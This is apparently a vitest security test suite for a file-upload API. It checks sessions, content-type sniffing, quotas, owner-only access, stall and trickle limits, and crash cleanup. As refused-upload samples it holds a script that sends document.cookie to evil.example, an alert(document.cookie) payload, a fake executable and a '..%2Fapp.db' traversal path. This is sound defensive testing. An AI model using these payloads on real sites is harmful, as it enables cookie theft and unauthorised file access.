/**
 * Attacks on `POST /api/upload`. Before, an upload needed no session (an `x-uid` header
 * was enough), any bytes were stored under the content-type the client claimed, one user could fill
 * the disk, and the answer's URL led nowhere. Each test is such an attack, refused before the body is
 * read where the headers suffice; a file is served back only to its owner.
 */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { UPLOAD_QUOTA_BYTES, UPLOAD_QUOTA_WINDOW_MS } from '../../server/api/upload';
import { createApp } from '../../server/app';
import { useApiServer } from '../fixtures/api-server';

const api = useApiServer('uploads-', { uploadStallMs: 1000 });
const rows = () => Number(api.db.prepare('SELECT COUNT(*) AS n FROM uploads').get()!.n);
const files = () => (existsSync(join(api.dataDir, 'uploads')) ? readdirSync(join(api.dataDir, 'uploads')) : []);

const bytes = (...parts: Array<number[] | string>) =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === 'string' ? Array.from(part, (ch) => ch.charCodeAt(0)) : part)));
/** The first bytes of real files, padded with data as their encoders would follow them. */
const withBody = (head: Uint8Array, size = 4096) => {
  const file = new Uint8Array(size).fill(0x55);
  file.set(head);
  return file;
};
const PNG = withBody(bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d], 'IHDR'));
const MP3 = withBody(bytes('ID3', [4, 0, 0, 0, 0, 0]));
const MP4 = withBody(bytes([0, 0, 0, 0x18], 'ftypisom', [0, 0, 2, 0], 'isomiso2'));

async function headers(uid: string, extra: Record<string, string> = {}) {
  return { 'x-uid': uid, 'x-app-sessionid': await api.session(uid), 'x-file-name': encodeURIComponent('photo.png'), 'content-type': 'image/png', ...extra };
}

async function upload(body: Uint8Array<ArrayBuffer>, head: Record<string, string>) {
  const response = await fetch(`${api.base}/api/upload`, { method: 'POST', headers: head, body });
  return { status: response.status, body: await response.json() };
}

/**
 * Sends the headers (declaring `declared` bytes) and only `first` of the body, and waits for the
 * answer: it arrives only if the server answers without reading the rest.
 */
function sendPart(head: Record<string, string>, declared: number, first: Uint8Array): Promise<{ status: number; body: any }> {
  const url = new URL(`${api.base}/api/upload`);
  return new Promise((resolve, reject) => {
    const req = request(
      { host: url.hostname, port: url.port, path: url.pathname, method: 'POST', agent: false, headers: { ...head, 'content-length': String(declared) } },
      (res) => {
        let text = '';
        res.on('data', (chunk) => (text += chunk));
        res.on('end', () => {
          req.destroy();
          resolve({ status: res.statusCode!, body: JSON.parse(text) });
        });
      },
    );
    // The server closes the connection under the unsent rest: that is expected.
    req.on('error', (error) => (/EPIPE|ECONNRESET|socket hang up/.test(error.message) ? undefined : reject(error)));
    req.write(first);
  });
}

const get = async (id: string, sessionId?: string) => {
  const response = await fetch(`${api.base}/api/upload/${id}`, { headers: sessionId === undefined ? {} : { 'x-app-sessionid': sessionId } });
  return { status: response.status, headers: response.headers, body: new Uint8Array(await response.arrayBuffer()) };
};

describe('who may upload', () => {
  it('refuses an upload without a session before reading the body', async () => {
    const before = rows();
    // 10 MB declared, 1 KB sent: an answer proves the server did not wait for the rest.
    const reply = await sendPart({ 'x-uid': '10001', 'content-type': 'image/png' }, 10 * 1024 * 1024, PNG.subarray(0, 1024));
    expect(reply).toEqual({ status: 403, body: { code: 'notLoggedIn', message: 'Please log in your music account.' } });
    expect(rows()).toBe(before);
    expect(files()).toEqual([]);
  });

  it("refuses an invented session, another user's uid under my session, and an expired session, before reading", async () => {
    const declared = 10 * 1024 * 1024;
    const first = PNG.subarray(0, 1024);
    expect((await sendPart({ 'x-uid': '10001', 'x-app-sessionid': 'x'.repeat(43) }, declared, first)).status).toBe(403);
    expect((await sendPart(await headers('upload-attacker', { 'x-uid': '10002' }), declared, first)).status).toBe(403);
    const expiring = await headers('upload-expired');
    await api.dev('/api/dev/session/expire', { app_sessionid: expiring['x-app-sessionid'] });
    expect(await sendPart(expiring, declared, first)).toEqual({
      status: 401,
      body: { code: 'loginExpired', message: 'Login status expired. Go to the OPPO account center to re-verify.' },
    });
    expect(files()).toEqual([]);
  });
});

describe('what may be uploaded', () => {
  it.each([
    ['an HTML page', bytes('<!DOCTYPE html><html><body><script>document.location="https://evil.example/?"+document.cookie</script>')],
    ['a script', bytes('alert(document.cookie); // looks like an image to whoever trusts the name')],
    ['a Windows program', withBody(bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff]))],
  ])('refuses %s named .png and declared image/png with 415', async (_, body) => {
    const before = rows();
    const reply = await upload(body, await headers('upload-types'));
    expect(reply).toEqual({ status: 415, body: { code: 'uploadFailed', message: 'Not an image, audio or video file.' } });
    expect(rows()).toBe(before);
    expect(files()).toEqual([]);
  });

  it('refuses a file that is not media on its first bytes, without reading the rest', async () => {
    const reply = await sendPart(await headers('upload-types'), 50 * 1024 * 1024, bytes('<html>'.padEnd(1024, ' ')));
    expect(reply).toEqual({ status: 415, body: { code: 'uploadFailed', message: 'Not an image, audio or video file.' } });
    expect(files()).toEqual([]);
  });

  it.each([
    ['a PNG', PNG, 'image/png'],
    ['an MP3', MP3, 'audio/mpeg'],
    ['an MP4', MP4, 'video/mp4'],
  ])('takes %s under the type its bytes show, whatever the client declared', async (_, body, mime) => {
    const reply = await upload(body, await headers('upload-media', { 'content-type': 'text/html', 'x-file-name': 'clip.html' }));
    expect(reply.status).toBe(200);
    expect(api.db.prepare('SELECT uid, mime, size FROM uploads WHERE id = ?').get(reply.body.data.id)).toEqual({
      uid: 'upload-media',
      mime,
      size: body.byteLength,
    });
    // Readable by the server's user alone.
    expect(statSync(join(api.dataDir, 'uploads', reply.body.data.id)).mode & 0o777).toBe(0o600);
  });
});

describe('the quota', () => {
  const storeEarlier = (uid: string, size: number, agoMs: number) =>
    api.db
      .prepare('INSERT INTO uploads (id, uid, name, mime, size, created_at) VALUES (?, ?, ?, ?, ?, ?)')
      .run(`seed${uid}${agoMs}`.padEnd(32, '0').slice(0, 32), uid, 'earlier.mp4', 'video/mp4', size, Date.now() - agoMs);

  it('refuses an upload that would take a user past 1 GiB in 24 hours: by its length at once, else while reading', async () => {
    storeEarlier('upload-quota', UPLOAD_QUOTA_BYTES - 1000, 60_000);
    const before = rows();
    const QUOTA = { code: 'uploadQuota', message: "You've reached today's upload limit. Please try again tomorrow." };
    expect(await sendPart(await headers('upload-quota'), PNG.byteLength, PNG.subarray(0, 100))).toEqual({ status: 429, body: QUOTA });
    // Without a length (streamed): refused once the bytes pass the quota.
    const stream = new ReadableStream({
      start(controller) {
        controller.enqueue(PNG);
        controller.close();
      },
    });
    const response = await fetch(`${api.base}/api/upload`, {
      method: 'POST',
      headers: await headers('upload-quota'),
      body: stream,
      duplex: 'half',
    } as RequestInit);
    expect({ status: response.status, body: await response.json() }).toEqual({ status: 429, body: QUOTA });
    expect(rows()).toBe(before);
    // Another user is not affected.
    expect((await upload(PNG, await headers('upload-quota-other'))).status).toBe(200);
  });

  it('counts only the last 24 hours', async () => {
    storeEarlier('upload-yesterday', UPLOAD_QUOTA_BYTES, UPLOAD_QUOTA_WINDOW_MS + 60_000);
    expect((await upload(PNG, await headers('upload-yesterday'))).status).toBe(200);
  });
});

describe('reading an upload back', () => {
  it('serves the file to its owner only, as an attachment that is not sniffed; anyone else gets the same 404', async () => {
    const owner = await headers('upload-owner');
    const { body } = await upload(MP3, owner);
    expect(body.data.url).toBe(`/api/upload/${body.data.id}`);

    const mine = await get(body.data.id, owner['x-app-sessionid']);
    expect(mine.status).toBe(200);
    expect(mine.body).toEqual(MP3);
    expect(
      Object.fromEntries(['content-type', 'x-content-type-options', 'content-disposition', 'cache-control'].map((name) => [name, mine.headers.get(name)])),
    ).toEqual({
      'content-type': 'audio/mpeg',
      'x-content-type-options': 'nosniff',
      'content-disposition': "attachment; filename*=UTF-8''photo.png",
      'cache-control': 'private, no-store',
    });

    const NOT_FOUND = new TextEncoder().encode(JSON.stringify({ code: 'notFound', message: 'No such upload.' }));
    const refusals = [
      await get(body.data.id, await api.session('upload-stranger')),
      await get(body.data.id),
      await get(body.data.id, 'x'.repeat(43)),
      await get('A'.repeat(32), owner['x-app-sessionid']),
      await get('..%2Fapp.db', owner['x-app-sessionid']),
    ];
    for (const refusal of refusals) expect({ status: refusal.status, body: refusal.body }).toEqual({ status: 404, body: NOT_FOUND });
  });
});

describe('slow uploads', () => {
  it('cuts an upload that stalls, answering 408, and leaves no partial file', async () => {
    const before = { rows: rows(), files: files() };
    const reply = await sendPart(await headers('upload-stall'), 1024 * 1024, PNG.subarray(0, 2048));
    expect(reply).toEqual({ status: 408, body: { code: 'uploadFailed', message: 'No byte of the upload arrived for 1 s.' } });
    expect({ rows: rows(), files: files() }).toEqual(before);
  });
});

// A SIGKILL during an upload once left a 59.6 MB file with no row, kept after restart and
// outside the quota. A file now arrives under `<id>.part` and is named only once its row exists; a
// restart removes whatever has no row.
describe('a server killed mid-upload', () => {
  it('holds an arriving file as .part only, named once its row is written', async () => {
    const head = await headers('upload-crash');
    const url = new URL(`${api.base}/api/upload`);
    const req = request({
      host: url.hostname,
      port: url.port,
      path: url.pathname,
      method: 'POST',
      agent: false,
      headers: { ...head, 'content-length': String(PNG.length) },
    });
    const answered = new Promise<{ status: number; body: any }>((resolve) =>
      req.on('response', (res) => {
        let text = '';
        res.on('data', (chunk) => (text += chunk));
        res.on('end', () => resolve({ status: res.statusCode!, body: JSON.parse(text) }));
      }),
    );
    const before = files();
    req.write(PNG.subarray(0, 2048));
    // What a kill at this moment would leave: a .part file and no row.
    await expect.poll(() => files().filter((name) => !before.includes(name))).toEqual([expect.stringMatching(/^[A-Za-z0-9]{32}\.part$/)]);
    req.end(PNG.subarray(2048));
    const reply = await answered;
    expect(reply.status).toBe(200);
    expect(files().filter((name) => !before.includes(name))).toEqual([reply.body.data.id]);
  });

  it('removes, at the next start, every file without a row: a .part the crash left, and a stray of the old naming', async () => {
    const { body } = await upload(PNG, await headers('upload-restart'));
    const dir = join(api.dataDir, 'uploads');
    writeFileSync(join(dir, `${'a'.repeat(32)}.part`), new Uint8Array(60_000));
    writeFileSync(join(dir, 'b'.repeat(32)), new Uint8Array(60_000));
    createApp({ root: api.dataDir, db: api.db, privateKey: readFileSync('tests/fixtures/keys/private.pem', 'utf8'), dataDir: api.dataDir, log: false });
    expect(files()).toContain(body.data.id);
    expect(files().filter((name) => !/^[A-Za-z0-9]{32}$/.test(name) || name === 'b'.repeat(32))).toEqual([]);
    expect(files().every((name) => api.db.prepare('SELECT 1 FROM uploads WHERE id = ?').get(name))).toBe(true);
  });
});

// An upload trickled at 1 byte every 20 s once stayed open past 80 s, and could have lasted an hour.
describe('a trickled upload', () => {
  const slow = useApiServer('uploads-trickle-', { uploadStallMs: 5_000, uploadMinBytes: 1024, uploadRateWindowMs: 1_000 });

  it('is cut once a window brings less than the minimum, though a byte keeps arriving', async () => {
    const head = { 'x-uid': 'trickler', 'x-app-sessionid': await slow.session('trickler'), 'content-type': 'image/png' };
    const url = new URL(`${slow.base}/api/upload`);
    const started = performance.now();
    const reply = await new Promise<{ status: number; body: any }>((resolve, reject) => {
      const req = request(
        { host: url.hostname, port: url.port, path: url.pathname, method: 'POST', agent: false, headers: { ...head, 'content-length': String(1024 * 1024) } },
        (res) => {
          let text = '';
          res.on('data', (chunk) => (text += chunk));
          res.on('end', () => {
            clearInterval(drip);
            req.destroy();
            resolve({ status: res.statusCode!, body: JSON.parse(text) });
          });
        },
      );
      req.on('error', (error) => (/EPIPE|ECONNRESET|socket hang up/.test(error.message) ? undefined : reject(error)));
      // A real file's first 2 KB, then one byte every 200 ms: far under a stall, far under the pace.
      req.write(PNG.subarray(0, 2048));
      const drip = setInterval(() => req.write(new Uint8Array([0x55])), 200);
    });
    expect(reply).toEqual({ status: 408, body: { code: 'uploadFailed', message: 'Less than 1 KB of the upload arrived in 1 s.' } });
    // The first window had its 2 KB; the second did not: cut at its end, not after the 5 s stall.
    expect(performance.now() - started).toBeLessThan(3_500);
    expect(slow.db.prepare('SELECT COUNT(*) AS n FROM uploads WHERE uid = ?').get('trickler')).toEqual({ n: 0 });
  });
});

describe('a large upload', () => {
  it('leaves no listener behind per wait for the disk (Node warned at 11 on the stream)', async () => {
    const warnings: string[] = [];
    const onWarning = (warning: Error) => warnings.push(`${warning.name}: ${warning.message}`);
    process.on('warning', onWarning);
    try {
      const reply = await upload(withBody(PNG.subarray(0, 64), 24 * 1024 * 1024), await headers('upload-large'));
      expect(reply.status).toBe(200);
      // Warnings are emitted on the next tick.
      await new Promise((resolve) => setTimeout(resolve, 50));
    } finally {
      process.off('warning', onWarning);
    }
    expect(warnings.filter((w) => /MaxListeners/.test(w))).toEqual([]);
  });
});

// Once, an upload slower than a pace window (a 2 MB screenshot at 20 KB/s) was stored one chunk
// short at every window's end, and answered 200 with the short size. The windows are short here, so
// a paced sender crosses several of them in a second or two.
describe('a paced upload', () => {
  const paced = useApiServer('uploads-paced-', { uploadStallMs: 2_000, uploadMinBytes: 512, uploadRateWindowMs: 300 });
  // Windows long enough to hold a pause and the pieces around it: what a pause meets is the stall limit.
  const pausing = useApiServer('uploads-pausing-', { uploadStallMs: 2_000, uploadMinBytes: 512, uploadRateWindowMs: 3_000 });
  const sha256 = (data: Uint8Array) => createHash('sha256').update(data).digest('hex');
  /** A PNG of `size` bytes whose every byte after the header differs from its neighbours. */
  const file = (size: number) => {
    const data = withBody(PNG.subarray(0, 16), size);
    for (let i = 16; i < size; i++) data[i] = (i * 31 + (i >> 8)) & 0xff;
    return data;
  };

  /**
   * Sends `data` announced by its length, `chunks` at a time: each piece of the given size after the
   * given pause (ms), as a slow link delivers it; `stopAfter` cuts the connection after that many bytes.
   */
  function send(
    uid: string,
    data: Uint8Array,
    pieces: Array<[size: number, pauseMs: number]>,
    { stopAfter, server = paced }: { stopAfter?: number; server?: typeof paced } = {},
  ) {
    const url = new URL(`${server.base}/api/upload`);
    return server.session(uid).then(
      (session) =>
        new Promise<{ status: number; body: any } | 'cut'>((resolve, reject) => {
          const req = request({
            host: url.hostname,
            port: url.port,
            path: url.pathname,
            method: 'POST',
            agent: false,
            headers: { 'x-uid': uid, 'x-app-sessionid': session, 'content-type': 'image/png', 'content-length': String(data.length) },
          });
          req.on('response', (res) => {
            let text = '';
            res.on('data', (chunk) => (text += chunk));
            res.on('end', () => resolve({ status: res.statusCode!, body: JSON.parse(text) }));
          });
          req.on('error', (error) => (/EPIPE|ECONNRESET|socket hang up/.test(error.message) ? resolve('cut') : reject(error)));
          void (async () => {
            let sent = 0;
            for (let i = 0; sent < data.length; i++) {
              const [size, pause] = pieces[i % pieces.length]!;
              await new Promise((wait) => setTimeout(wait, pause));
              if (stopAfter !== undefined && sent >= stopAfter) {
                req.destroy();
                return;
              }
              const piece = data.subarray(sent, Math.min(data.length, sent + size));
              sent += piece.length;
              if (sent < data.length) req.write(piece);
              else req.end(piece);
            }
          })();
        }),
    );
  }
  const stored = async (uid: string, id: string, server = paced) => {
    const response = await fetch(`${server.base}/api/upload/${id}`, { headers: { 'x-app-sessionid': await server.session(uid) } });
    return new Uint8Array(await response.arrayBuffer());
  };
  const rowsOf = (uid: string, server = paced) => Number(server.db.prepare('SELECT COUNT(*) AS n FROM uploads WHERE uid = ?').get(uid)!.n);
  const partsLeft = (server = paced) =>
    existsSync(join(server.dataDir, 'uploads')) ? readdirSync(join(server.dataDir, 'uploads')).filter((n) => n.endsWith('.part')) : [];

  it.each([
    ['2 KB every 50 ms', 64 * 1024, [[2048, 50]]],
    ['8 KB every 200 ms', 48 * 1024, [[8192, 200]]],
    [
      'uneven pieces at uneven times',
      40 * 1024,
      [
        [700, 20],
        [3000, 120],
        [1, 5],
        [4096, 90],
        [333, 60],
      ],
    ],
  ] as const)('is stored byte for byte across many pace windows: %s', async (_pace, size, pieces) => {
    const uid = `paced-${size}-${pieces.length}`;
    const data = file(size);
    const reply = await send(uid, data, pieces as unknown as Array<[number, number]>);
    expect(reply).toMatchObject({ status: 200, body: { data: { size } } });
    const back = await stored(uid, (reply as { body: any }).body.data.id);
    expect(back.length).toBe(size);
    expect(sha256(back)).toBe(sha256(data));
  });

  it('takes a pause well under the stall limit (1.2 s of 2 s) inside a window that still brings its bytes', async () => {
    const data = file(24 * 1024);
    // Quick pieces, one long pause, quick pieces again: the pause is no stall, and the windows around it are full.
    const pieces: Array<[number, number]> = [
      [4096, 20],
      [4096, 20],
      [4096, 1_200],
      [4096, 20],
      [4096, 20],
      [4096, 20],
    ];
    const reply = await send('paced-pause', data, pieces, { server: pausing });
    expect(reply).toMatchObject({ status: 200, body: { data: { size: data.length } } });
    expect(sha256(await stored('paced-pause', (reply as { body: any }).body.data.id, pausing))).toBe(sha256(data));
  });

  it('cuts a pause past the stall limit with 408, and stores nothing', async () => {
    const reply = await send(
      'paced-stall',
      file(24 * 1024),
      [
        [4096, 20],
        [4096, 20],
        [4096, 4_000],
      ],
      { server: pausing },
    );
    expect(reply).toEqual({ status: 408, body: { code: 'uploadFailed', message: 'No byte of the upload arrived for 2 s.' } });
    expect(rowsOf('paced-stall', pausing)).toBe(0);
    expect(partsLeft(pausing)).toEqual([]);
  });

  it('stores nothing of a client that stops mid-body', async () => {
    const reply = await send('paced-cut', file(64 * 1024), [[4096, 30]], { stopAfter: 16 * 1024 });
    expect(reply).toBe('cut');
    await expect.poll(partsLeft).toEqual([]);
    expect(rowsOf('paced-cut')).toBe(0);
  });
});
